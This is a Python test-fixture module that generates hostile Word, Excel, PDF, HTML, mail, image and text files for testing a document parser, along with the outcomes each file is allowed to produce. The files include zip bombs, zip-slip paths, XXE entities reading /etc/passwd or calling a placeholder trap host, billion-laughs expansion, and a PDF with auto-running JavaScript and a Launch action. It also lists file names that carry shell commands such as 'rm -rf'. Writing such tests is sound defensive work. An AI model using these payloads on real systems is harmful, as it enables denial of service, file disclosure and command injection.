"""Makes hostile files, with the outcomes that are allowed for each."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from tests.pdf_maker import make_pdf

TRAP = "@TRAP@"
"""A placeholder for the address of the trap server, which counts connections."""
MB = 2**20


@dataclass(frozen=True)
class Case:
    """A hostile file; `ends` are its allowed outcomes: `completed`, `error:CODE`, `refused:CODE`."""

    name: str
    make: Callable[[], bytes]
    ends: tuple[str, ...]


# --- archives -----------------------------------------------------------------------------------------------

_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    '<Override PartName="/word/settings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>'
)
_RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="word/document.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>'
)
_WORDS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def document_xml(text: str = "Harmless words.", head: str = "") -> str:
    body = f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body>"
    return f'<?xml version="1.0" encoding="UTF-8"?>{head}<w:document {_WORDS}>{body}</w:document>'


def docx(parts: Mapping[str, str | bytes] | None = None) -> bytes:
    """A small Word file, with parts added or replaced."""
    entries = {"[Content_Types].xml": _TYPES, "_rels/.rels": _RELATIONS, "word/document.xml": document_xml()}
    return zipped({**entries, **(parts or {})})


def zipped(entries: Mapping[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def zip_bomb() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive, archive.open("word/media/x.bin", "w") as entry:
        for _ in range(200):
            entry.write(bytes(MB))
    return out.getvalue()


def nested_zip() -> bytes:
    inner = zipped({"bomb.bin": bytes(8 * MB)})
    for _ in range(20):
        inner = zipped({"inner.zip": inner})
    return docx({"word/embeddings/inner.zip": inner})


def linked() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/passwords.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def many_entries() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        for number in range(65_600):
            archive.writestr(zipfile.ZipInfo(f"word/{number}"), b"")
    return out.getvalue()


def overlapping() -> bytes:
    """An archive whose directory has two names for the same bytes."""
    data = docx({"word/a.xml": "x" * 1000})
    directory = data.index(b"PK\x01\x02")
    end = data.rindex(b"PK\x05\x06")
    entries = data[directory:end]
    first = entries[: entries.index(b"PK\x01\x02", 4)]
    again = first.replace(b"[Content_Types].xml", b"[Content_Typez].xml")
    count = struct.unpack_from("<H", data, end + 10)[0] + 1
    tail = bytearray(data[end:])
    struct.pack_into("<HHI", tail, 8, count, count, len(entries) + len(again))
    return data[:directory] + entries + again + bytes(tail)


def laughs(depth: int = 10) -> str:
    """The billion laughs attack: each entity expands to ten of the one before."""
    names = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, depth))
    return f'<!DOCTYPE x [<!ENTITY l0 "ha">{names}]>'


def quadratic() -> str:
    return document_xml("&a;" * 50_000, f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>')


def external(where: str) -> str:
    return document_xml("&x;", f'<!DOCTYPE x [<!ENTITY x SYSTEM "{where}">]>')


def remote_template() -> bytes:
    relation = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" TargetMode="External" Target="http://{TRAP}/evil.dotm" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
    )
    settings = f'<?xml version="1.0"?><w:settings {_WORDS}/>'
    return docx({"word/settings.xml": settings, "word/_rels/settings.xml.rels": relation})


def xlsx(sheet: str, strings: str = "") -> bytes:
    """A workbook of one sheet with this XML."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    parts = {
        "[Content_Types].xml": f'<?xml version="1.0"?><Types xmlns="{package}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}.worksheet+xml"/></Types>',
        "_rels/.rels": f'<?xml version="1.0"?><Relationships xmlns="{package}/relationships"><Relationship Id="rId1" '
        f'Target="xl/workbook.xml" Type="{office}/officeDocument"/></Relationships>',
        "xl/workbook.xml": f'<?xml version="1.0"?><workbook xmlns="{main}" xmlns:r="{office}"><sheets>'
        '<sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<?xml version="1.0"?><Relationships xmlns="{package}/relationships">'
        f'<Relationship Id="rId1" Target="worksheets/sheet1.xml" Type="{office}/worksheet"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?>{strings}<worksheet xmlns="{main}">{sheet}</worksheet>',
    }
    return zipped(parts)


def huge_sheet() -> bytes:
    """A sheet with two cells in opposite corners; its declared size is 17 thousand million cells."""
    cells = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
    return xlsx(f'<dimension ref="A1:XFD1048576"/><sheetData>{cells}</sheetData>')


# --- PDF ----------------------------------------------------------------------------------------------------


def pdf(objects: list[bytes], extra: bytes = b"") -> bytes:
    """A PDF of these objects; the first one is its catalogue."""
    out, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + content + b"\nendobj\n"
    table = b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode() + table
    return (
        out
        + f"trailer << /Size {len(objects) + 1} /Root 1 0 R".encode()
        + extra
        + f" >>\nstartxref\n{start}\n%%EOF".encode()
    )


def stream(content: bytes, filters: bytes = b"") -> bytes:
    return b"<< /Length " + str(len(content)).encode() + filters + b" >>\nstream\n" + content + b"\nendstream"


_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>"
"""A page with the content of object 4 and the font of object 5."""


def page_loop() -> bytes:
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1000000 /Parent 3 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 2 0 R 3 0 R] /Count 1000000 /Parent 2 0 R >>",
        ]
    )


def many_objects() -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n")
    out.write(b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n")
    out.write(b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >> endobj\n")
    for number in range(4, 1_000_004):
        out.write(b"%d 0 obj 0 endobj\n" % number)
    out.write(b"trailer << /Root 1 0 R /Size 1000005 >>\n%%EOF")
    return out.getvalue()


def many_pages() -> bytes:
    """A PDF that contains one page a million times."""
    kids = b"3 0 R " * 1_000_000
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count 1000000 /Kids [" + kids + b"] >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        ]
    )


def stream_bomb() -> bytes:
    squeezer = zlib.compressobj(9)
    packed = b"".join([*(squeezer.compress(b"(a) Tj " * 150_000) for _ in range(600)), squeezer.flush()])
    twice = zlib.compress(packed, 9)
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _PAGE,
            stream(twice, b" /Filter [/FlateDecode /FlateDecode]"),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )


def active_pdf() -> bytes:
    """A page of text in a PDF that starts a program, a script and a link when it is opened."""
    text = b"BT /F 12 Tf 72 700 Td (Harmless words on a page.) Tj ET"
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 7 0 R >> "
            b"/Names << /JavaScript << /Names [(x) 6 0 R] >> /EmbeddedFiles << /Names [(evil.exe) 8 0 R] >> >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _PAGE,
            stream(text),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            f"<< /S /JavaScript /JS (this.submitForm('http://{TRAP}/');app.launchURL('http://{TRAP}/')) >>".encode(),
            b"<< /S /Launch /F (/bin/true) >>",
            b"<< /Type /Filespec /F (../../evil.exe) /EF << /F 9 0 R >> >>",
            stream(b"MZ" + b"\x90" * 100),
        ]
    )


def polyglot_pdf() -> bytes:
    return make_pdf([["Harmless words on a page."]]) + b"\n" + docx()


# --- text and the rest --------------------------------------------------------------------------------------


def deep_html() -> bytes:
    return b"<html><body>" + b"<div><b>" * 100_000 + b"Harmless words." + b"</b></div>" * 100_000


def remote_html() -> bytes:
    tags = "".join(
        f'<{tag} {attribute}="http://{TRAP}/{tag}"></{tag}>'
        for tag, attribute in (("img", "src"), ("link", "href"), ("script", "src"), ("iframe", "src"), ("base", "href"))
    )
    body = "<body><p>Harmless words.</p></body>"
    return f'<!DOCTYPE html SYSTEM "http://{TRAP}/x.dtd"><html><head>{tags}</head>{body}'.encode()


def deep_mail() -> bytes:
    lines = ["From: a@example.org", "Subject: Deep"]
    for depth in range(2000):
        lines += [f'Content-Type: multipart/mixed; boundary="b{depth}"', "", f"--b{depth}"]
    lines += ["Content-Type: text/plain", "", "Harmless words."]
    return "\r\n".join(lines).encode()


def mail_with_bomb() -> bytes:
    import base64

    bomb = base64.encodebytes(zip_bomb()).decode()
    return (
        "From: a@example.org\r\nSubject: A bomb\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n"
        f"--b\r\nContent-Type: text/html\r\n\r\n<p>Harmless words.</p><img src='http://{TRAP}/pixel'>\r\n"
        "--b\r\nContent-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document\r\n"
        'Content-Disposition: attachment; filename="../../bomb.docx"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        f"{bomb}\r\n--b--\r\n"
    ).encode()


def png(width: int, height: int) -> bytes:
    """A one-colour image with this size in its header."""

    def piece(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(min(height * (1 + width // 8), 64 * MB)), 9)
    return b"\x89PNG\r\n\x1a\n" + piece(b"IHDR", header) + piece(b"IDAT", rows) + piece(b"IEND", b"")


READ, UNSAFE, LIMIT = ("completed",), ("error:unsafe",), ("error:limit",)
BROKEN = ("error:broken", "error:empty")

CASES = (
    Case("zip_bomb.docx", zip_bomb, UNSAFE),
    Case("nested_zip.docx", nested_zip, READ),
    Case("zip_slip.docx", lambda: docx({"../../evil.txt": "evil"}), UNSAFE),
    Case("zip_slip_absolute.docx", lambda: docx({"/tmp/evil.txt": "evil"}), UNSAFE),
    Case("zip_slip_drive.docx", lambda: docx({"C:\\evil.txt": "evil"}), UNSAFE),
    Case("symlink.docx", linked, UNSAFE),
    Case("many_entries.docx", many_entries, LIMIT),
    Case("overlapping.docx", overlapping, UNSAFE),
    Case("billion_laughs.docx", lambda: docx({"word/document.xml": document_xml("&l9;", laughs())}), UNSAFE),
    Case("quadratic.docx", lambda: docx({"word/document.xml": quadratic()}), UNSAFE),
    Case("external_file.docx", lambda: docx({"word/document.xml": external("file:///etc/passwd")}), UNSAFE),
    Case("external_http.docx", lambda: docx({"word/document.xml": external(f"http://{TRAP}/x")}), UNSAFE),
    Case("remote_template.docx", remote_template, READ),
    Case("huge_sheet.xlsx", huge_sheet, ("completed", "error:limit", "error:unsafe")),
    Case(
        "billion_laughs.xlsx",
        lambda: xlsx("<sheetData><row><c t='str'><v>&l9;</v></c></row></sheetData>", laughs()),
        ("error:unsafe", "error:broken"),
    ),
    Case("page_loop.pdf", page_loop, (*BROKEN, "error:limit", "error:scanned")),
    Case("many_objects.pdf", many_objects, (*BROKEN, "error:limit", "error:scanned")),
    Case("many_pages.pdf", many_pages, (*BROKEN, "error:limit", "error:scanned")),
    Case("stream_bomb.pdf", stream_bomb, ("completed", "error:limit")),
    Case("active.pdf", active_pdf, READ),
    Case("polyglot.pdf", polyglot_pdf, ("refused:unsupported",)),
    Case("polyglot.docx", lambda: b"%PDF-1.7\n" + docx(), ("refused:unsupported", "error:broken")),
    Case("program.txt", lambda: b"\x7fELF" + bytes(1000), ("refused:unsupported",)),
    Case("deep_quotes.md", lambda: b"Harmless words.\n\n" + b">" * 100_000 + b" deep\n", READ),
    Case("deep_brackets.md", lambda: b"Harmless words.\n\n" + b"[" * 100_000 + b"\n", READ),
    Case("deep_lists.md", lambda: b"".join(b" " * (2 * n) + b"- x\n" for n in range(1500)), READ),
    Case("deep_stars.md", lambda: b"*a **a " * 50_000, READ),
    Case("many_fences.md", lambda: b"````\n```\n" * 50_000, READ),
    Case("many_references.md", lambda: b"".join(b"[a%d]: x\n" % n for n in range(20_000)) + b"[a1]" * 20_000, READ),
    Case("one_line.txt", lambda: b"word " * (MB // 2), READ),
    Case("one_word.md", lambda: b"w" * MB, READ),
    Case(
        "invalid.txt",
        lambda: b"Harmless words \xff\xfe\xc3\x28 and \xed\xa0\x80 more.\n" * 50,
        ("completed", "error:not_utf8", "refused:unsupported"),
    ),
    Case(
        "bidi.txt",
        lambda: "Harmless \u202etxt.exe\u202c words\u200b\u2060\ufeff \U000e0041\U000e0042.\n".encode(),
        READ,
    ),
    Case("controls.txt", lambda: bytes(n % 8 + 1 for n in range(64)) * (9 * MB // 64), ("refused:unsupported",)),
    Case("columns.csv", lambda: b"a," * 999_999 + b"a\n" + b"1," * 999_999 + b"1\n", ("completed", "error:limit")),
    Case("quote.csv", lambda: b'a,b\n"' + b"x," * (3 * MB), ("completed", "error:limit", "error:broken")),
    Case("deep.html", deep_html, ("completed", "error:limit")),
    Case("remote.html", remote_html, READ),
    Case("deep.eml", deep_mail, ("completed", "error:limit", "error:empty")),
    Case("bomb.eml", mail_with_bomb, READ),
    Case("huge.png", lambda: png(60_000, 60_000), ("error:limit", "error:broken", "error:scanned", "error:empty")),
)

NAMES = (
    "../../evil.md",
    "/tmp/evil.md",
    "..\\..\\evil.md",
    "C:\\evil.md",
    "nul\0byte.md",
    "a" * 4096 + ".md",
    "\u202efdp.md",
    ".htaccess",
    "trailing.md.",
    "line\nbreak.md",
    "..",
    "con.md",
    "$(touch evil).md",
    "evil.md;rm -rf",
)
"""File names that try to write elsewhere or to confuse."""
